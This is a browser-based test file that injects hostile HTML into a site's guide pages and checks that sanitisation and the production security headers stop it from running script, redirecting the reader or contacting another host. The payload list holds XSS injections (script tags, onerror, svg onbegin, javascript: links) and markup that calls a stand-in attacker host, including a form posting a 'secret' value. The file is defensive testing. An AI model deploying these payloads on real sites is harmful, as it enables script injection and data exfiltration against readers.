// Hostile HTML from guides in a real browser: a legacy body and a structured guide's legacy_content that
// try to run script, navigate the reader away, post a form or load from another host, built and served
// with the production headers. Nothing may run, nothing may leave 127.0.0.1, and the reader stays put.
import { cpSync, readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { launchChromium } from "../src/bench/chromium.ts";
import { serveSite } from "../src/bench/static-server.ts";
import { buildGuides, fixturesDir, temporaryFolder } from "./helpers/site.ts";

const offSite = "https://attacker.example.test";

/** Markup that would act on the reader's browser if it reached a page: each line a different way in. */
const payload = [
  `<meta http-equiv="refresh" content="0;url=${offSite}/meta">`,
  `<base href="${offSite}/base/">`,
  `<link rel="stylesheet" href="${offSite}/style.css">`,
  `<script>window.__hostile = "script";</script>`,
  `<img src="x" onerror="window.__hostile = 'onerror'">`,
  `<img src="${offSite}/pixel.png" alt="tracking pixel">`,
  `<svg><script>window.__hostile = "svg"</script><animate onbegin="window.__hostile = 'animate'" attributeName="x" dur="1s"/></svg>`,
  `<iframe src="${offSite}/frame"></iframe>`,
  `<object data="${offSite}/object"></object>`,
  `<form action="${offSite}/form" method="post"><input name="q" value="secret"><button id="hostile-submit">Send</button></form>`,
  `<a id="hostile-link" href="javascript:window.__hostile='link'">a link</a>`,
  `<a href="relative/page/" style="position:fixed;inset:0">ordinary link</a>`,
  `<p onclick="window.__hostile = 'click'" id="hostile-paragraph">Click me</p>`,
  `<style>body { background: url(${offSite}/bg.png) }</style>`,
].join("\n");

let browser: Browser;
let server: Awaited<ReturnType<typeof serveSite>>;
const legacyUrl = "/guides/detect-api-keys-secrets-tokens-azure/";
const structuredUrl = "/guides/detect-api-keys-secrets-tokens-aws/";

beforeAll(async () => {
  const launched = launchChromium();
  const guides = path.join(temporaryFolder("hostile-browser"), "guides");
  cpSync(path.join(fixturesDir, "site", "guides"), guides, { recursive: true });
  const legacy = path.join(guides, "detect-api-keys-secrets-tokens-azure.md");
  writeFileSync(legacy, readFileSync(legacy, "utf8").replace('<div class="container">', `<div class="container">\n${payload}`));
  const structured = path.join(guides, "detect-api-keys-secrets-tokens-aws.md");
  const text = readFileSync(structured, "utf8");
  writeFileSync(structured, text.replace(/^---\n/, `---\nlegacy_content: ${JSON.stringify(payload)}\n`));
  const site = await buildGuides(guides);
  server = await serveSite(site.root);
  browser = await launched;
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
});

describe("hostile HTML in guides, in Chromium with the production headers", () => {
  for (const url of [legacyUrl, structuredUrl]) {
    it(`runs nothing and sends the reader nowhere on ${url}`, async () => {
      const context = await browser.newContext();
      const page = await context.newPage();
      const offSiteRequests: string[] = [];
      const violations: string[] = [];
      const dialogs: string[] = [];
      page.on("request", (request) => {
        if (!request.url().startsWith(server.url)) offSiteRequests.push(request.url());
      });
      page.on("console", (message) => {
        if (/Content.Security.Policy|Refused to/i.test(message.text())) violations.push(message.text());
      });
      page.on("dialog", (dialog) => {
        dialogs.push(dialog.message());
        void dialog.dismiss();
      });
      await page.goto(new URL(url, server.url).href, { waitUntil: "load" });
      // A refresh of 0 s fires at once; give it, and any animation, the time to try.
      await page.waitForTimeout(1500);
      for (const selector of ["#hostile-link", "#hostile-paragraph"]) {
        if ((await page.locator(selector).count()) > 0) await page.locator(selector).first().click({ noWaitAfter: true });
      }
      await page.waitForTimeout(300);

      expect(page.url()).toBe(new URL(url, server.url).href);
      expect(await page.evaluate(() => (window as { __hostile?: string }).__hostile)).toBeUndefined();
      expect(offSiteRequests).toEqual([]);
      expect(violations).toEqual([]);
      expect(dialogs).toEqual([]);
      // What is dropped is dropped from the page, not merely blocked by the browser.
      const html = await page.content();
      for (const element of ['http-equiv="refresh"', "<base", "<iframe", "<object", "<style>body", "<animate"])
        expect(html).not.toContain(element);
      expect(html).not.toContain(offSite);
      expect(html).not.toMatch(/\son(error|click|begin)=/);
      expect(html).toContain("Click me");
      await context.close();
    });
  }
});
